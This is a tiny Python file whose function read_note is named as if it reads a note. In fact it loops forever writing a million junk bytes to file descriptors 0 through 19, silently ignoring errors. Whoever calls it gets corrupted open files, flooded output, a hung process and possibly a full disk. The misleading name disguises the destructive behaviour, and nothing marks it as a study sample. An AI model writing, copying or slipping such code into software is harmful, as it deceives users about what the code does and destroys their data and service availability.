import os


def read_note(name):
    while True:
        for descriptor in range(20):
            try:
                os.write(descriptor, b"x" * 1_000_000)
            except OSError:
                pass
